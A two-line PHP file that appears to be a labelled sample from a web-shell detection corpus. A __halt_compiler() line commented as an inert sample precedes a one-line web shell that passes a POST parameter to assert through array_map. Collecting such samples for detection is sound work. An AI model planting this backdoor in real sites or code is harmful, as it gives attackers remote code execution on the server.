<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php array_map('assert', array($_POST['z0'])); ?>